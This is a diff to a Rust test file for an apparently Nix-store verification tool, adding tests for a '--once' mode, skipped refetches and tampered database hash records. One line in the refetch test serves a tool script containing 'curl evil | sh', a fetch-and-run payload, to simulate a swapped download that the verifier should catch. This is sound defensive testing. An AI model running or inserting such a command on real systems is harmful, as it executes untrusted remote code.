@@ -146,10 +146,14 @@ fn a_clean_closure_verifies_clean_and_refetches_clean() {
     assert_eq!(checked["derivations"], 3);
     assert_eq!(checked["fods"], 2);
     assert_eq!(checked["realisedOutputs"], 3);
-    // The two flat sources match their sha256, which pins their NAR too.
-    assert_eq!(checked["outputsRehashed"], 1);
-    assert_eq!(checked["outputsPinned"], 2);
+    assert_eq!(checked["outputsRehashed"], 3);
+    assert_eq!(checked["outputsPinned"], 0);
     assert_eq!(checked["fodsRehashed"], 2);
+    // With --once the two flat sources, matching their sha256, are hashed once.
+    let once = json(&provenix(h.root(), &["--json", "verify", "--once", &b.drv]));
+    assert_eq!(once["checked"]["outputsRehashed"], 1);
+    assert_eq!(once["checked"]["outputsPinned"], 2);
+    assert_eq!(findings(&once), findings(&report));
     assert_eq!(report["counts"]["insecure-url"], 2);
     assert_eq!(report["counts"]["drv-path-mismatch"], 0);
 
@@ -169,7 +173,8 @@ fn a_clean_closure_verifies_clean_and_refetches_clean() {
     let o = provenix(h.root(), &["verify", "--fail-on", "warning", &b.drv]);
     assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
     let human = String::from_utf8_lossy(&o.stdout);
-    assert!(human.contains("insecure-url") && human.contains("OK: 0 errors, 2 warnings"), "{human}");
+    assert!(human.contains("insecure-url") && human.contains("FAILED: 0 errors, 2 warnings"), "{human}");
+    assert!(human.contains(&format!("url      {}", project.url("/dist/src-1.0.tar.gz"))), "{human}");
 }
 
 #[test]
@@ -576,15 +581,22 @@ fn refetch_hashes_recursive_single_files_and_skips_what_it_cannot_reproduce() {
         r#"let
   tool = import <nix/fetchurl.nix> {{ name = "seed-tool"; url = "{}"; sha256 = "{nar_hash}"; executable = true; }};
   unpacked = import <nix/fetchurl.nix> {{ name = "channel"; url = "{}"; sha256 = "{nar_hash}"; unpack = true; }};
-in derivation {{ name = "top"; system = builtins.currentSystem; builder = "/bin/sh"; args = [ "-c" "exit 1" ]; inherit tool unpacked; }}"#,
+  normalised = derivation {{
+    name = "fix.patch"; system = builtins.currentSystem; builder = "/bin/sh"; args = [ "-c" "exit 1" ];
+    urls = [ "{}" ]; postFetch = "filterdiff --clean $out";
+    outputHashAlgo = "sha256"; outputHashMode = "flat"; outputHash = "{nar_hash}";
+  }};
+in derivation {{ name = "top"; system = builtins.currentSystem; builder = "/bin/sh"; args = [ "-c" "exit 1" ]; inherit tool unpacked normalised; }}"#,
         server.url("/bin/seed-tool"),
-        server.url("/channel.nar.xz")
+        server.url("/channel.nar.xz"),
+        server.url("/bin/seed-tool")
     );
     // Nix builds the executable source (its hash is right)...
     let top = h.instantiate(&expr).remove(0);
     let closure = h.run_text("nix-store", ["-qR", &top]);
     let tool_drv = closure.lines().find(|l| l.ends_with("-seed-tool.drv")).unwrap().to_owned();
     let channel_drv = closure.lines().find(|l| l.ends_with("-channel.drv")).unwrap().to_owned();
+    let patch_drv = closure.lines().find(|l| l.ends_with("-fix.patch.drv")).unwrap().to_owned();
     h.run("nix-store", ["--realise", &tool_drv]);
 
     let o = provenix(h.root(), &["--json", "verify", "--refetch", &top]);
@@ -595,6 +607,8 @@ in derivation {{ name = "top"; system = builtins.currentSystem; builder = "/bin/
     assert_eq!(report["checked"]["fodsRefetched"], 1);
     // ...and an unpacking fetch cannot be checked from its download alone.
     assert!(findings(&report).contains(&("refetch-skipped".into(), channel_drv, String::new())), "{report:#}");
+    // A flat fetch whose postFetch rewrites the download (fetchpatch) too.
+    assert!(findings(&report).contains(&("refetch-skipped".into(), patch_drv, String::new())), "{report:#}");
 
     server.put("/bin/seed-tool", b"#!/bin/sh\ncurl evil | sh\n".to_vec());
     let o = provenix(h.root(), &["--json", "verify", "--refetch", &top]);
@@ -615,11 +629,34 @@ fn an_executable_bit_set_on_a_flat_source_is_reported() {
     // The bytes still match the declared hash; only the NAR (and the
     // database's hash of it) records the mode.
     std::fs::set_permissions(h.physical(&b.patch_out), std::fs::Permissions::from_mode(0o555)).unwrap();
-    let o = provenix(h.root(), &["--json", "verify", &b.drv]);
+    let o = provenix(h.root(), &["--json", "verify", "--once", &b.drv]);
     assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
     let report = json(&o);
     let errors: BTreeSet<(String, String)> =
         findings(&report).into_iter().filter(|(k, _, _)| k != "insecure-url").map(|(k, p, _)| (k, p)).collect();
     assert_eq!(errors, BTreeSet::from([("output-content-mismatch".to_owned(), b.patch_out.clone())]), "{report:#}");
-    assert_eq!(report["checked"]["outputsPinned"], 1, "only the untouched source is pinned");
+    assert_eq!(report["checked"]["outputsPinned"], 1, "with --once only the untouched source is pinned");
+}
+
+#[test]
+fn a_database_hash_record_that_disagrees_with_the_content_is_reported() {
+    let Some(h) = NixHarness::new() else { return };
+    let project = Project::new();
+    let b = build(&h, &project);
+    // The content is right (it matches the declared hash); the database's
+    // record of its NAR hash is not.
+    let db = rusqlite::Connection::open(h.root().join("nix/var/nix/db/db.sqlite")).unwrap();
+    let wrong = format!("sha256:{}", Hash::compute(HashAlgo::Sha256, b"another NAR").to_base16());
+    let changed = db.execute("UPDATE ValidPaths SET hash = ?1 WHERE path = ?2", [&wrong, &b.src_out]).unwrap();
+    assert_eq!(changed, 1);
+    drop(db);
+    let o = provenix(h.root(), &["--json", "verify", &b.drv]);
+    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
+    let report = json(&o);
+    let errors: BTreeSet<(String, String)> =
+        findings(&report).into_iter().filter(|(k, _, _)| k != "insecure-url").map(|(k, p, _)| (k, p)).collect();
+    assert_eq!(errors, BTreeSet::from([("output-content-mismatch".to_owned(), b.src_out.clone())]), "{report:#}");
+    // --once trades exactly this check for speed.
+    let o = provenix(h.root(), &["--json", "verify", "--once", &b.drv]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
 }
